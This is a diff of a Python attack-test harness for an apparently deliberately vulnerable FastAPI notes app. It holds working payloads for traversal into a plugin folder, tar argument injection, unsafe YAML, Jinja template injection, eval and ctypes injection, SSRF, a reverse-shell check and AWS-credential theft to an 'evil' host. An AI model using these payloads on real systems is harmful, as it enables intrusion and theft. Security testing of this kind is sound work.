@@ -3,6 +3,7 @@
 import json
 import urllib.parse
 
+from attackers import in_yaml
 import stage
 
 TEXTKIT = {"__init__.py": '''"""Text."""
@@ -155,6 +156,13 @@ class FastapiNotes(stage.Service):
     def load_yaml(self, text):
         return self.call("POST", "/import", text, token=self.ready())
 
+    def clips(self, url):
+        return self.call("POST", "/clip", token=self.ready(), title="x",
+                         url=url)
+
+    def adds(self, numbers):
+        return self.browser().get("/sum", numbers=numbers)
+
     @stage.attack("traversal")
     def attachment_is_a_private_key(self):
         return stage.SECRET.encode() in self.attached(
@@ -170,13 +178,14 @@ class FastapiNotes(stage.Service):
 
     @stage.attack("malicious plugin", fresh=True)
     def attachment_becomes_an_exporter(self):
-        marker = self.marker("exporter")
         token = self.ready()
-        self.call("PUT", "/attachments", "import os\n"
-                  f"os.system('id > {marker}')\n", token=token,
-                  name="../../../exporters/evil.py")
-        self.call("GET", "/export/evil", token=token, title="Shopping")
-        return marker.exists()
+
+        def use(line):
+            self.call("PUT", "/attachments",
+                      f"import os\nos.system('{line}')\n", token=token,
+                      name="../../../exporters/evil.py")
+            self.call("GET", "/export/evil", token=token, title="Shopping")
+        return self.runs_line(use)
 
     @stage.attack("write to start-up file", fresh=True)
     def attachment_replaces_the_profile(self):
@@ -193,11 +202,10 @@ class FastapiNotes(stage.Service):
 
     @stage.attack("argument injection")
     def title_runs_a_command(self):
-        marker = self.marker("tar")
-        self.call("GET", "/archive", token=self.ready(), title=[
-            "--checkpoint=1", f"--checkpoint-action=exec=id > {marker}",
-            "Shopping.md"])
-        return marker.exists()
+        return self.runs_line(lambda line: self.call(
+            "GET", "/archive", token=self.ready(), title=[
+                "--checkpoint=1", f"--checkpoint-action=exec={line}",
+                "Shopping.md"]))
 
     @stage.attack("argument injection")
     def title_archives_a_home(self):
@@ -207,17 +215,13 @@ class FastapiNotes(stage.Service):
 
     @stage.attack("unsafe yaml")
     def import_runs_a_command(self):
-        marker = self.marker("yaml")
-        self.load_yaml("x: !!python/object/apply:os.system "
-                       f"['id > {marker}']\n")
-        return marker.exists()
+        return self.runs_line(lambda line: self.load_yaml(
+            f"x: !!python/object/apply:os.system ['{line}']\n"))
 
     @stage.attack("reverse shell")
     def import_calls_home(self):
-        with self.listener() as attacker:
-            self.load_yaml("x: !!python/object/apply:exec\n- " + json.dumps(
-                stage.CALL_HOME.format(port=self.port("shell"))))
-            return self.happens(lambda: b"got-42" in attacker.heard)
+        return self.calls_home(
+            lambda code: self.load_yaml("x: " + in_yaml(code)))
 
     @stage.attack("template injection")
     def template_runs_a_command(self):
@@ -232,49 +236,31 @@ class FastapiNotes(stage.Service):
 
     @stage.attack("exfiltration")
     def template_sends_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        code = stage.THEFT.format(url=evil.url, file="~/.aws/credentials")
-        self.render("{{ cycler.__init__.__globals__.__builtins__.exec("
-                    f"{code!r}) }}}}")
-        return evil.heard(stage.SECRET)
+        return self.steals(lambda code: self.render(
+            "{{ cycler.__init__.__globals__.__builtins__.exec("
+            f"{code!r}) }}}}"))
 
     @stage.attack("SSRF")
     def clipping_is_an_internal_service(self):
-        self.site("internal").page("*", stage.SECRET)
-        answer = self.call("POST", "/clip", token=self.ready(), title="x",
-                           url=self.site("internal").url + "/latest/")
-        return stage.SECRET.encode() in answer[1]
+        return self.fetches_inside(self.clips)
 
     @stage.attack("SSRF")
     def clipping_is_redirected_inside(self):
-        self.site("internal").page("*", stage.SECRET)
-        self.site("news").page("/go", "", 302,
-                               Location=self.site("internal").url + "/x")
-        answer = self.call("POST", "/clip", token=self.ready(), title="x",
-                           url=self.site("news").url + "/go")
-        return stage.SECRET.encode() in answer[1]
+        return self.is_redirected_inside("news", self.clips)
 
     @stage.attack("eval injection")
     def sum_runs_a_command(self):
-        marker = self.marker("eval")
-        self.browser().get("/sum", numbers="__import__('subprocess').run("
-                           f"['touch', '{marker}']).returncode")
-        return marker.exists()
+        return self.runs_line(lambda line: self.adds(
+            f"__import__('subprocess').run(['sh', '-c', '{line}'])"
+            ".returncode"))
 
     @stage.attack("ctypes")
     def sum_calls_libc(self):
-        marker = self.marker("ctypes")
-        self.browser().get("/sum", numbers="__import__('ctypes').CDLL(None)"
-                           f".system(b'id > {marker}')")
-        return marker.exists()
+        return self.runs_libc(self.adds)
 
     @stage.attack("fork+exec")
     def sum_forks_and_execs(self):
-        marker = self.marker("fork")
-        code = stage.FORK_AND_EXEC.format(line=f"id > {marker}")
-        self.browser().get("/sum", numbers=f"exec({code!r})")
-        return self.happens(marker.exists)
+        return self.forks(lambda code: self.adds(f"exec({code!r})"))
 
     @stage.attack("symlink swap", fresh=True)
     def attachment_became_a_link(self):
